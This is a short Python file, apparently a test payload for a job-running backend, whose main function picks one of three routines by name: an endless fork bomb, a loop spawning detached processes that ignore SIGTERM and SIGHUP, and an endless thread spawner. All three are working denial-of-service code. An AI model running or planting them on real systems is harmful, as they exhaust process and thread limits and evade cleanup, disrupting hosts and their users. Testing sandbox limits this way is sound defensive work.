import os
import signal
import threading
import time


def fork():
    while True:
        os.fork()


def flee():
    while True:
        if os.fork() == 0:
            os.setsid()
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)


def threads():
    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()


def main(backend, user_messenger, how):
    globals()[how]()
